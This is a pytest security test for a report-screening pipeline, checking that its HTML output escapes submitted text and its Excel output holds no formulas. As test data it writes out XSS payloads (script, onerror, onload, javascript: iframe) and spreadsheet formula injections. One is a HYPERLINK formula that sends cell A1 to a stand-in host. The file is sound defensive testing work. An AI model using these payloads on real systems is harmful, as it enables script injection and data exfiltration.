"""Report text cannot inject into report.html (escaped) or report.xlsx (no formulas).

Payloads sit where a submitter controls text: the body (also copied by a colleague, so it shows
as evidence), the name in the header, the file name, and a manifest value.
"""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest

from .builders import good_report, person

PAYLOADS = (
    '<script>alert("soi-xss-body")</script>',
    '</script><script>alert("soi-xss-close")</script>',
    '"><img src=x onerror=alert("soi-xss-attr")>',
    "<iframe src=javascript:alert('soi-xss-iframe')>",
)
NAME_PAYLOAD = "<b onmouseover=alert('soi-xss-name')>Lê Văn Tâm</b>"
UNIT_PAYLOAD = "Chi bộ <svg onload=alert('soi-xss-unit')>"
FILE_PAYLOAD = "<img src=x onerror=alert('soi-xss-file')>.txt"
FORMULAS = ('=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "=1+1", "@SUM(1,1)", "+1+1", "-1+1")


def _with_payloads(text: str) -> str:
    """``text`` with every payload inserted as paragraphs of the duties section."""
    marker = "5. Về thực hiện chức trách, nhiệm vụ được giao:\n"
    return text.replace(marker, marker + "\n".join(PAYLOADS) + "\n" + "\n".join(FORMULAS) + "\n")


@pytest.fixture(scope="module")
def result(tmp_path_factory: pytest.TempPathFactory):
    from pipeline.screen import screen

    folder = tmp_path_factory.mktemp("inject")
    hostile = _with_payloads(good_report(40, year=2024)).replace(person(40)[0], NAME_PAYLOAD)
    (folder / FILE_PAYLOAD).write_text(hostile, encoding="utf-8")
    copy = hostile.replace(NAME_PAYLOAD, person(41)[0])  # a colleague copies it: evidence rows
    (folder / "copy.txt").write_text(copy, encoding="utf-8")
    (folder / "clean.txt").write_text(good_report(42, year=2024), encoding="utf-8")
    manifest = folder / "manifest.csv"
    with manifest.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["path", "member_id", "unit", "year", "kind", "role"])
        w.writerow([FILE_PAYLOAD, "=1+2", UNIT_PAYLOAD, 2024, "individual", "member"])
        w.writerow(["copy.txt", "m41", UNIT_PAYLOAD, 2024, "individual", "member"])
        w.writerow(["clean.txt", "m42", "Chi bộ A", 2024, "individual", "member"])
    res = screen(manifest=manifest, cache_dir=None)
    assert len(res.documents) == 3, res.errors
    return res


def test_payloads_reach_the_outputs(result) -> None:
    """Otherwise the tests below would prove nothing."""
    docs = result.documents
    assert NAME_PAYLOAD in set(docs["name"])
    assert UNIT_PAYLOAD in set(docs["unit"])
    assert any(FILE_PAYLOAD in p for p in docs["path"])
    assert any(PAYLOADS[0] in t for t in result.batch.documents["text"])


def test_html_escapes_all_report_text(result) -> None:
    html_mod = pytest.importorskip("pipeline.report.html", reason="report.html not built yet")
    html = html_mod.render_html(result)
    for payload in (*PAYLOADS, NAME_PAYLOAD, UNIT_PAYLOAD, FILE_PAYLOAD):
        assert payload not in html, payload
    for marker in ("soi-xss-body", "soi-xss-close", "soi-xss-attr", "soi-xss-name", "soi-xss-unit"):
        for line in (ln for ln in html.splitlines() if marker in ln):
            assert "<script" not in line.lower().replace("&lt;script", ""), line[:200]
            assert "onerror=" not in line.replace("&quot;", '"').split("&lt;")[0], line[:200]
    assert "&lt;script&gt;alert(" in html, "the body text is shown, as text"
    assert "&lt;b onmouseover=" in html, "the name is shown, as text"


def test_xlsx_has_no_formulas(result, tmp_path: Path) -> None:
    xlsx_mod = pytest.importorskip("pipeline.report.xlsx", reason="report.xlsx not built yet")
    path = tmp_path / "report.xlsx"
    xlsx_mod.write_xlsx(result, path)
    with zipfile.ZipFile(path) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        everything = b"".join(zf.read(n) for n in zf.namelist() if n.endswith(".xml"))
        assert b"=1+2" in everything, "the manifest's member_id '=1+2' is in the workbook, as text"
        for name in sheets:
            assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), f"a formula cell in {name}"
